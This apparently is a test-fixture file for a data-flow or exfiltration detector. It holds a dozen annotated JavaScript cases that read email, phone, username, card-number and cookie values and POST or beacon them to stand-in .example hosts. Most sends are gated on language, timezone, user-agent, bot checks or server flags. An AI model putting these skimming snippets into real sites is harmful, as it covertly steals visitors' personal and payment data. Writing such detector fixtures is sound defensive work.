//# guard-optional-and
// flow: email > goa.gd5.example via fetch
// guard: language starts-with zh
const mail1 = document.querySelector('input[type=email]').value;
navigator.language?.startsWith('zh') && fetch('https://goa.gd5.example/', { method: 'POST', body: mail1 });

//# guard-on-map-lookup
// flow: phone > gml.gd5.example via fetch
// guard: language one-of de-DE | fr-FR
const tel2 = document.querySelector('input[type=tel]').value;
const wanted2 = new Set(['de-DE', 'fr-FR']);
if (wanted2.has(navigator.language)) fetch('https://gml.gd5.example/', { method: 'POST', body: tel2 });

//# guard-index-of
// flow: identifier > gio.gd5.example via beacon
// guard: user-agent contains Android
if (~navigator.userAgent.indexOf('Android')) navigator.sendBeacon('https://gio.gd5.example/', document.cookie);

//# guard-negated-helper
// flow: search > gnh.gd5.example via fetch
// guard: not user-agent contains bot | crawl
const isBot4 = () => /bot|crawl/i.test(navigator.userAgent);
function main4() {
  if (isBot4()) return void 0;
  fetch('https://gnh.gd5.example/?q=' + document.querySelector('input[type=search]').value);
}
main4();

//# guard-after-await
// flow: email > gaa.gd5.example via fetch
// guard: server-answer present
(async () => {
  const { enabled } = await (await fetch('/flags.json')).json();
  if (!enabled) return;
  await fetch('https://gaa.gd5.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
})();

//# guard-switch-on-answer
// flow: username > gsa.gd5.example via fetch
// guard: server-answer equals full
fetch('/mode').then((r) => r.json()).then((cfg) => {
  switch (cfg.mode) {
    case 'full': fetch('https://gsa.gd5.example/', { method: 'POST', body: document.querySelector('input[name=username]').value }); break;
    case 'off': break;
  }
});

//# guard-sampled
// flow: interaction > gsm.gd5.example via beacon
// guard: random other
const sampled7 = Math.random() < 0.05;
document.addEventListener('click', (e) => { if (sampled7) navigator.sendBeacon('https://gsm.gd5.example/', e.clientX + ',' + e.clientY); });

//# guard-timezone-table
// flow: phone > gtt.gd5.example via fetch
// guard: timezone one-of Asia/Shanghai | Asia/Urumqi
const zone8 = new Intl.DateTimeFormat().resolvedOptions().timeZone;
const tel8 = document.querySelector('input[type=tel]').value;
if (['Asia/Shanghai', 'Asia/Urumqi'].some((z) => z === zone8)) fetch('https://gtt.gd5.example/', { method: 'POST', body: tel8 });

//# guard-early-exit-or
// flow: email > geo.gd5.example via fetch
// guard: referrer present
function run9() {
  if (!document.referrer || !navigator.onLine) return;
  fetch('https://geo.gd5.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
}
run9();

//# guard-both-branches-send
// flow: email > gbs.gd5.example via fetch
// flow: email > gbt.gd5.example via fetch
// guard: language equals ja
// guard: not language equals ja
const mail10 = document.querySelector('input[type=email]').value;
if (navigator.language === 'ja') fetch('https://gbs.gd5.example/', { method: 'POST', body: mail10 });
else fetch('https://gbt.gd5.example/', { method: 'POST', body: mail10 });

//# guard-ternary-callee
// flow: card > gtc.gd5.example via fetch
// guard: storage equals yes
const post11 = (v) => fetch('https://gtc.gd5.example/', { method: 'POST', body: v });
const noop11 = () => {};
(localStorage.getItem('consent') === 'yes' ? post11 : noop11)(document.querySelector('input[autocomplete=cc-number]').value);

//# guard-phone-prefix-regex
// flow: phone > gpr.gd5.example via fetch
// guard: phone-prefix starts-with +86 | 0086
const tel12 = document.querySelector('input[type=tel]').value;
if (/^(\+86|0086)/.test(tel12)) fetch('https://gpr.gd5.example/', { method: 'POST', body: tel12 });

//# guard-never-true-flags
// no flow
// why: the flag is false and nothing sets it
const flags13 = Object.freeze({ collect: false });
if (flags13.collect) fetch('https://gnt0.gd5.example/', { method: 'POST', body: document.cookie });
